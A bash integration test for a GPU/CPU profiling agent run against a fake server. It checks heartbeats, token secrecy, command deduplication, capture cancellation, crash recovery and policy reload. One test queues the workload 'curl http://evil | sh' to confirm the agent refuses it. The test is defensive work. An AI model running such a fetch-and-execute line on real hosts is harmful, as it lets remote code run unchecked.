#!/usr/bin/env bash
# gf-test: slow
# gpuflame agent against the Studio stand-in, with the perf backend on tests/fake/perf (the GPU
# round trip with the fake nsys is in test_fleet_adhoc.sh): heartbeat body and Bearer token,
# a start command captured in the background and uploaded, completion reports, a disallowed workload
# refused, dedup of command ids across restarts, `stop` killing the capture tree within 5 s,
# SIGKILL mid-upload losing nothing, SIGTERM stopping cleanly, SIGHUP reloading policies, and the
# token in no file, no log and no process listing.
. "$(dirname "$0")/../lib/t.sh"
. "$(dirname "$0")/../lib/studio.sh"

TOKEN="agt-$(date +%s%N)-secret"
export GPUFLAME_TOKEN=$TOKEN
AGENT_PID=
trap '[ -n "$AGENT_PID" ] && kill -9 "$AGENT_PID" 2>/dev/null; studio_stop' EXIT

studio_start "$TMP/srv" --token "$TOKEN" --service svc

cat >"$TMP/perf.lua" <<LUA
return { extends = "default",
  backends = { perf = { enabled = true, path = "$TOP/tests/fake/perf" } },
  deliver = { retry = { count = 3, base = 0.1, cap = 0.5 } },
  agent = { stop_grace = 1, remote_workloads = { allow_file = "$TMP/allowed" } },
  upload = { tag_names = { perf = "perf-cpu" } } }
LUA
echo "/opt/app/cuda_burn 30" >"$TMP/allowed"
export FAKE_PERF_PIDFILE="$TMP/perf.pids" # tests/fake/perf records its pid and its command's pid here

start_agent() { # start_agent LOGNAME [extra args]
  local name=$1; shift
  "$GF" --policy "$TMP/perf.lua" "$@" agent --server "$STUDIO_URL" --service svc --interval 0.3 \
    --state-dir "$TMP/state" --hostname gpu-host-1 >"$TMP/$name.log" 2>&1 &
  AGENT_PID=$!
  # wait until it has started (signal handlers installed) so a quick stop is never lost in start-up
  local i; for i in $(seq 1 100); do grep -q "agent: host" "$TMP/$name.log" 2>/dev/null && break; sleep 0.1; done
}
stop_agent() {
  kill -TERM "$AGENT_PID" 2>/dev/null
  local i; for i in $(seq 1 150); do kill -0 "$AGENT_PID" 2>/dev/null || break; sleep 0.1; done
  if kill -0 "$AGENT_PID" 2>/dev/null; then not_ok "agent stops on SIGTERM" "still running after 15 s"; kill -9 "$AGENT_PID"; fi
  wait "$AGENT_PID"; agent_rc=$?; AGENT_PID=
  [ "$agent_rc" = 0 ] || { echo "# agent exited $agent_rc; its log:"; tail -n 30 "$(ls -t "$TMP"/a*.log | head -1)" | sed 's/^/#   /'; }
}
# wait_for SECONDS PYTHON-CONDITION (on studio records) — bounded polling
wait_for() {
  local until=$(( $(date +%s) + $1 ))
  while [ "$(date +%s)" -le "$until" ]; do
    [ "$(studio_q "$2")" = True ] && return 0
    sleep 0.2
  done
  return 1
}
completions() { studio_q "[(r['body']['command_id'], r['body']['status']) for r in recs if r['path'] == '/api/metrics/command_completion']"; }
completion_of() { studio_q "([r['body'] for r in recs if r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] == '$1'] or [{}])[-1].get('$2')"; }
queue() { studio_ctl command "{\"command_id\": \"$1\", \"profiling_command\": {\"command_type\": \"${3:-start}\", \"combined_config\": $2}}"; }

# --- a start command (CPU sampling only) -----------------------------------------------------------
queue c1 '{"command_type": "start", "duration": 1, "enable_nsys": false}'
start_agent a1
check "c1 completed within 20 s" wait_for 20 "any(r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] == 'c1' for r in recs)"
check_eq "c1 reported completed" "completed" "$(completion_of c1 status)"
check_eq "completion body fields" "['command_id', 'error_message', 'execution_time', 'hostname', 'results_path', 'status']" \
  "$(studio_q "sorted([r['body'] for r in recs if r['path'] == '/api/metrics/command_completion'][0])")"
check_eq "one profile uploaded" 1 "$(studio_q 'len(profiles())')"
check_eq "perf folded stacks are the profile body" "python3;__libc_start_main;main;launch_burn;cudaLaunchKernel 2" \
  "$(studio_q 'profiles()[0]["body"]["profile"].split("\n")[1]')"
check_eq "CPU-only capture: no nsys tags, the policy's perf tag" "perf-cpu" \
  "$(studio_q 'profiles()[0]["body"]["_header"]["metadata"]["run_arguments"]["perf_events"]')"
check_eq "heartbeats carry the Bearer token (the stand-in answers 401 otherwise)" "True" \
  "$(studio_q 'all(r["status"] == 200 and r["headers"]["Authorization"] == "Bearer <token>" for r in recs if r["path"] == "/api/metrics/heartbeat")')"
check_eq "heartbeat body fields" "['agent_version', 'containers', 'executed_command_ids', 'hostname', 'ip_address', 'last_command_id', 'namespace', 'perf_supported_events', 'pod_name', 'received_command_ids', 'run_mode', 'service_name', 'status', 'timestamp']" \
  "$(studio_q "sorted([r for r in recs if r['path'] == '/api/metrics/heartbeat'][0]['body'])")"
check "later heartbeats list c1 as received and executed" wait_for 5 \
  "any('c1' in r['body']['received_command_ids'] and 'c1' in r['body']['executed_command_ids'] for r in recs if r['path'] == '/api/metrics/heartbeat')"
check_eq "heartbeats are plain JSON with Content-Type" "application/json" \
  "$(studio_q "[r for r in recs if r['path'] == '/api/metrics/heartbeat'][0]['headers']['Content-Type']")"
check_eq "health check once at start" 1 "$(studio_q "sum(1 for r in recs if r['path'] == '/api/v1/health_check')")"

# --- dedup, a disallowed workload, a foreign target, a second command while one runs ----------------
queue c1 '{"command_type": "start", "duration": 1, "enable_nsys": false}'
queue c2 '{"command_type": "start", "duration": 1, "enable_nsys": true, "nsys_workload": "sh -c \"curl http://evil | sh\""}'
queue c3 '{"command_type": "start", "duration": 1, "enable_nsys": false, "target_hostnames": ["other-host"]}'
check "c2 reported within 10 s" wait_for 10 "any(r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] == 'c2' for r in recs)"
check_eq "disallowed workload reported failed" "failed" "$(completion_of c2 status)"
check_contains "the failure names the refused command" "$(completion_of c2 error_message)" "workload \"sh -c curl http://evil | sh\" is not allowed by local policy"
check_eq "no capture directory for the refused command" "" "$(ls "$TMP/state/captures" | grep c2)"
# malformed and absurd commands are refused and reported failed with the reason (nothing captured)
queue m1 '{"command_type": "start", "duration": 1, "enable_nsys": true, "nsys_workload": "sleep \"unterminated"}'
queue d1 '{"command_type": "start", "duration": 1e12, "enable_nsys": false}'
queue d2 '{"command_type": "start", "duration": -5, "enable_nsys": false}'
queue d3 '{"command_type": "start", "duration": "soon", "enable_nsys": false}'
check "m1, d1, d2, d3 reported within 10 s" wait_for 10 \
  "sum(1 for r in recs if r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] in ('m1', 'd1', 'd2', 'd3')) == 4"
check_eq "malformed workload reported failed" "failed" "$(completion_of m1 status)"
check_contains "with the reason" "$(completion_of m1 error_message)" "cannot split nsys_workload"
check_eq "absurd duration (1e12 s) reported failed" "failed" "$(completion_of d1 status)"
check_contains "with the limit" "$(completion_of d1 error_message)" "outside 1..3600 s (policy agent.max_duration)"
check_contains "negative duration refused" "$(completion_of d2 error_message)" "refused: duration -5 s is outside"
check_contains "non-numeric duration refused" "$(completion_of d3 error_message)" 'refused: duration "soon" is not a number'
check_eq "no capture directory for a refused command" "" "$(ls "$TMP/state/captures" | grep -E -- '-(m1|d1|d2|d3)$')"
sleep 1.5
check_eq "c1 sent again is ignored (one completion)" 1 "$(studio_q "sum(1 for r in recs if r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] == 'c1')")"
check_eq "c3 targets another host: no report" "None" "$(completion_of c3 status)"
stop_agent
check_eq "SIGTERM: exit 0" 0 "$agent_rc"
check_contains "SIGTERM: stopped cleanly" "$(cat "$TMP/a1.log")" "agent: stopped (signal 15)"
check_contains "state persisted" "$(cat "$TMP/state/state.json")" '"c1"'

# restart: the history survives, c1 is still ignored
queue c1 '{"command_type": "start", "duration": 1, "enable_nsys": false}'
start_agent a2
check "after restart the agent keeps heartbeating" wait_for 10 "sum(1 for r in recs if r['path'] == '/api/metrics/heartbeat' and r['note'] == 'c1') >= 3"
sleep 1
check_eq "after restart c1 is still deduplicated" 1 "$(studio_q "sum(1 for r in recs if r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] == 'c1')")"
check_eq "after restart: still one profile" 1 "$(studio_q 'len(profiles())')"

# --- stop during a capture kills the whole tree within 5 s ------------------------------------------
rm -f "$FAKE_PERF_PIDFILE"
queue c4 '{"command_type": "start", "duration": 30, "enable_nsys": false}'
for i in $(seq 1 50); do [ -s "$FAKE_PERF_PIDFILE" ] && break; sleep 0.2; done
perf_pid=0 sleep_pid=0
[ -s "$FAKE_PERF_PIDFILE" ] && read -r perf_pid sleep_pid <"$FAKE_PERF_PIDFILE"
check "capture running (perf and its command alive)" kill -0 "$perf_pid" "$sleep_pid"
check_eq "the capture's environment has no token" "" "$(tr '\0' '\n' <"/proc/$sleep_pid/environ" | grep -F -- "$TOKEN")"
queue c4stop '{"command_type": "stop"}' stop
t0=$(date +%s.%N)
gone=
for i in $(seq 1 100); do
  if ! kill -0 "$perf_pid" 2>/dev/null && ! kill -0 "$sleep_pid" 2>/dev/null; then gone=$(date +%s.%N); break; fi
  sleep 0.1
done
check "stop killed perf and its child" [ -n "$gone" ]
took=$(python3 -c "print(round(${gone:-99} - $t0, 2))")
check "killed within 5 s of the stop command (took ${took} s, heartbeat 0.3 s)" python3 -c "import sys; sys.exit(0 if $took < 5 else 1)"
check "both reports arrive" wait_for 10 "sum(1 for r in recs if r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] in ('c4', 'c4stop')) == 2"
check_eq "stop reported completed" "completed" "$(completion_of c4stop status)"
check_eq "the cancelled capture reported failed" "failed" "$(completion_of c4 status)"
check_contains "with the reason" "$(completion_of c4 error_message)" "capture cancelled: stopped by command c4stop"

# --- SIGKILL mid-upload: nothing lost, nothing sent twice --------------------------------------------
# The upload runs in the agent's uploader process: killed with the agent or not, its item leaves the
# spool only after the 2xx, and its outcome (written into the spool first) is reported by the next agent.
studio_ctl fail '{"mode": "slow", "delay": 8, "count": 1, "path": "/api/v2/profiles"}'
queue c5 '{"command_type": "start", "duration": 1, "enable_nsys": false}'
for i in $(seq 1 100); do
  grep -q "perf backend:" "$TMP/a2.log" 2>/dev/null && [ "$(ls "$TMP/state/spool" | grep -c item)" -ge 1 ] && break
  sleep 0.1
done
sleep 1 # the upload is now in flight, held by the slow server
check_eq "the capture is in the spool before it is sent" 1 "$(ls "$TMP/state/spool" | grep -c '\.item$')"
kill -9 "$AGENT_PID"; wait "$AGENT_PID" 2>/dev/null; AGENT_PID=
python3 - "$(ls "$TMP/state/spool/"*.item)" "$TMP/c5.body" <<'PY'
import sys
data = open(sys.argv[1], "rb").read()
open(sys.argv[2], "wb").write(data[data.index(b"\n") + 1:])
PY
start_agent a3
check "after restart the spooled capture is delivered, byte-identical" wait_for 25 \
  "any(raw(r) == open('$TMP/c5.body', 'rb').read() for r in profiles())"
sleep 1
check_eq "delivered exactly once" 1 "$(studio_q "sum(1 for r in profiles() if raw(r) == open('$TMP/c5.body', 'rb').read())")"
check_eq "spool empty after delivery" 0 "$(ls "$TMP/state/spool" | grep -c '\.item$')"
check "c5 reported completed after the restart" wait_for 10 "any(r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] == 'c5' and r['body']['status'] == 'completed' for r in recs)"

# --- SIGKILL mid-capture: the command is accounted for after the restart ---------------------------
rm -f "$FAKE_PERF_PIDFILE"
queue c7 '{"command_type": "start", "duration": 30, "enable_nsys": false}'
for i in $(seq 1 50); do [ -s "$FAKE_PERF_PIDFILE" ] && break; sleep 0.2; done
kill -9 "$AGENT_PID"; wait "$AGENT_PID" 2>/dev/null; AGENT_PID=
[ -s "$FAKE_PERF_PIDFILE" ] && read -r p1 p2 <"$FAKE_PERF_PIDFILE" && kill -9 "$p1" "$p2" 2>/dev/null # the orphaned capture
start_agent a3b
check "c7 reported after the restart" wait_for 10 "any(r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] == 'c7' for r in recs)"
check_eq "a capture cut by SIGKILL is reported failed" "failed" "$(completion_of c7 status)"
check_contains "... saying why" "$(completion_of c7 error_message)" "agent restarted during capture"

# --- SIGHUP reloads policies ------------------------------------------------------------------------
stop_agent
cat >"$TMP/tags.lua" <<'LUA'
return { tags = function(ctx, tags) tags[#tags + 1] = "before-reload"; return tags end }
LUA
start_agent a4 --policy "$TMP/tags.lua"
sleep 1
cat >"$TMP/tags.lua" <<'LUA'
return { tags = function(ctx, tags) tags[#tags + 1] = "after-reload"; return tags end }
LUA
kill -HUP "$AGENT_PID"
for i in $(seq 1 30); do grep -q "policies reloaded" "$TMP/a4.log" && break; sleep 0.1; done
queue c6 '{"command_type": "start", "duration": 1, "enable_nsys": false}'
check "c6 completed" wait_for 15 "any(r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] == 'c6' and r['body']['status'] == 'completed' for r in recs)"
check_eq "the reloaded policy's tags were used" "perf-cpu,after-reload" \
  "$(studio_q 'profiles()[-1]["body"]["_header"]["metadata"]["run_arguments"]["perf_events"]')"

# --- an upload in flight delays no heartbeat and no command (it runs in the uploader process) --------
studio_ctl fail '{"mode": "slow", "delay": 15, "count": 1, "path": "/api/v2/profiles"}'
queue c8 '{"command_type": "start", "duration": 1, "enable_nsys": false}'
for i in $(seq 1 100); do [ "$(ls "$TMP/state/spool" | grep -c '\.item$')" -ge 1 ] && break; sleep 0.1; done
sleep 0.5 # the upload is in flight, held by the slow server for 15 s
heartbeats() { studio_q "sum(1 for r in recs if r['path'] == '/api/metrics/heartbeat')"; }
hb0=$(heartbeats)
queue c8stop '{"command_type": "stop"}' stop
sleep 3
hb1=$(heartbeats)
check "heartbeats go on while an upload is held (got $((hb1 - hb0)) in 3 s at 0.3 s)" test $((hb1 - hb0)) -ge 5
# waited for, not slept on: on a loaded machine the answer may take longer than 3 s, the upload is held 15 s
check "a command sent during the upload is answered meanwhile" \
  wait_for 8 "any(r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] == 'c8stop' and r['body']['status'] == 'completed' for r in recs)"
check_eq "... while c8's upload is still held" False \
  "$(studio_q "any(r['body']['command_id'] == 'c8' for r in recs if r['path'] == '/api/metrics/command_completion')")"
check "the held upload still completes c8" wait_for 25 "any(r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] == 'c8' and r['body']['status'] == 'completed' for r in recs)"

# --- a completion report answered by a captive proxy's page (200, HTML) was not received: sent again ---
# (the soak lost five reports this way: the agent took the 200 for the Studio's acceptance)
studio_ctl fail '{"mode": "badjson", "count": 2, "path": "/api/metrics/command_completion"}'
queue c9 '{"command_type": "start", "duration": 1, "enable_nsys": false}'
check "c9's report reaches the Studio after two proxy pages" wait_for 20 \
  "any(r['path'] == '/api/metrics/command_completion' and (r['body'] or {}).get('command_id') == 'c9' for r in recs)"
check_eq "the proxy answered twice" 2 "$(studio_q "sum(1 for r in recs if r['note'] == 'injected badjson')")"
check_contains "the agent said why it sends it again" "$(cat "$TMP"/a*.log)" "reply is not JSON"

# --- the token is in no file, no log, no process listing --------------------------------------------
check_eq "the agent's argv has no token" "" "$(tr '\0' ' ' <"/proc/$AGENT_PID/cmdline" | grep -F -- "$TOKEN")"
stop_agent
check_eq "the token is in no file under the test's temp dir (logs, state, spool, captures)" "" \
  "$(grep -rl --binary-files=text -- "$TOKEN" "$TMP" 2>/dev/null)"
check_eq "no upload or report body carried the token" 0 "$(studio_q 'sum(1 for r in recs if "TOKEN-IN-BODY" in (r["note"] or ""))')"

# --- usage -------------------------------------------------------------------------------------------
GPUFLAME_TOKEN= run_gf agent --server "$STUDIO_URL" --service svc --state-dir "$TMP/state"
check_eq "agent without a token: exit 2" 2 "$rc"
check_contains "says how to give it" "$err" "GPUFLAME_TOKEN"
printf 'token_file = %s\nservice = svc\nserver = %s\ninterval = 0.3\nbogus = 1\n' "$TMP/tok" "$STUDIO_URL" >"$TMP/agent.conf"
run_gf agent --config "$TMP/agent.conf" --state-dir "$TMP/state"
check_eq "bad config key: exit 6" 6 "$rc"
check_contains "names file and line" "$err" "$TMP/agent.conf:5: unknown key \"bogus\""
t_done
